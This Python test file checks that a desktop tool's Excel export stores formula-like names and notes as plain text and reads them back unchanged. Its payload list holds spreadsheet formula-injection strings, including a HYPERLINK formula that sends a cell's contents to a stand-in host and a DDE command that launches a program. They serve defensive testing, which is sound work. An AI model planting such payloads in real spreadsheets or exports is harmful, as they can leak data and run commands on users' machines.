"""Names and notes that look like formulas are written as plain text and read back unchanged."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from html import unescape

import openpyxl
import pytest

from rtv_desktop.core import Document, default_scenario, run, simulate, tornado
from rtv_desktop.io.workbook.read import reader as workbook_reader
from rtv_desktop.io.workbook import write as workbook_writer


# Each payload carries a marker number found nowhere else, so a formula made from it is spotted.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"SUM(111)")',
    "+SUM(222,1)",
    "-SUM(333,1)+1",
    "@SUM(444,1)",
    "\t=SUM(555,1)",
    "\r=SUM(666,1)",
    "=cmd|' /C calc 777'!A0",
    "=SUM(888,1)\r\n-next line",
]
MARKERS = ["SUM(111)", "SUM(222,1)", "SUM(333,1)", "SUM(444,1)", "SUM(555,1)", "SUM(666,1)", "calc 777",
           "SUM(888,1)"]


def hostile_scenario():
    s = default_scenario()
    interventions = tuple(replace(iv, name=PAYLOADS[k % len(PAYLOADS)] + f" #{k}", notes=PAYLOADS[-1 - k % 8])
                          for k, iv in enumerate(s.interventions))
    services = (replace(s.services[0], name=PAYLOADS[1], source=PAYLOADS[2]), *s.services[1:])
    return replace(s, name=PAYLOADS[0], author=PAYLOADS[3], notes=PAYLOADS[4],
                   area=replace(s.area, area_name=PAYLOADS[5], area_code=PAYLOADS[6]),
                   interventions=interventions, services=services)


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    scenario = hostile_scenario()
    path = tmp_path_factory.mktemp("inject") / "hostile.xlsx"
    workbook_writer.write_workbook(Document.from_scenario(scenario), path, results=run(scenario),
                                   simulation=simulate(scenario, iterations=200, seed=1),
                                   tornado_rows=tornado(scenario))
    return scenario, path


def sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.startswith("xl/worksheets/") and name.endswith(".xml")}


def test_no_formula_carries_a_payload(written):
    _, path = written
    formulas = [unescape(f) for xml in sheet_xml(path).values() for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S)]
    assert formulas, "the workbook should still hold its own live formulas"
    leaked = [f for f in formulas for marker in MARKERS if marker in f]
    assert leaked == []


def test_payload_cells_are_strings(written):
    _, path = written
    book = openpyxl.load_workbook(path)  # formulas kept as formulas
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                hits = {m for m in MARKERS if isinstance(cell.value, str) and m in cell.value}
                if hits:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    found |= hits
    assert found == set(MARKERS)


def test_payloads_round_trip_unchanged(written):
    scenario, path = written
    back = workbook_reader.read_workbook(path).scenario
    assert (back.name, back.author, back.notes) == (scenario.name, scenario.author, scenario.notes)
    assert (back.area.area_name, back.area.area_code) == (scenario.area.area_name, scenario.area.area_code)
    assert [(i.name, i.notes) for i in back.interventions] == [(i.name, i.notes) for i in scenario.interventions]
    assert (back.services[0].name, back.services[0].source) == (scenario.services[0].name,
                                                                scenario.services[0].source)


def test_control_characters_and_escape_lookalikes_round_trip(tmp_path):
    text = "a\x00b\x07c\x1bd_x0041_e\ufffe\r\nend"
    scenario = replace(default_scenario(), notes=text, name="=" + text)
    path = workbook_writer.write_workbook(Document.from_scenario(scenario), tmp_path / "control.xlsx")
    back = workbook_reader.read_workbook(path).scenario
    assert (back.name, back.notes) == (scenario.name, scenario.notes)


def test_option_names_and_notes_never_become_formulas(tmp_path):
    """Option names appear in headers, titles, checks and charts: all as text, read back unchanged."""
    from rtv_desktop.core import Option, default_document

    doc = default_document()
    ivs = doc.options[0].interventions
    options = tuple(Option(PAYLOADS[k] + f" #{k}", ivs[:2], PAYLOADS[-1 - k]) for k in range(3))
    doc = replace(doc, name=PAYLOADS[0], options=options, comparator=1)
    path = workbook_writer.write_workbook(doc, tmp_path / "options.xlsx")
    formulas = [unescape(f) for xml in sheet_xml(path).values() for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S)]
    assert [f for f in formulas for marker in MARKERS if marker in f] == []
    assert workbook_reader.read_workbook(path).document == doc
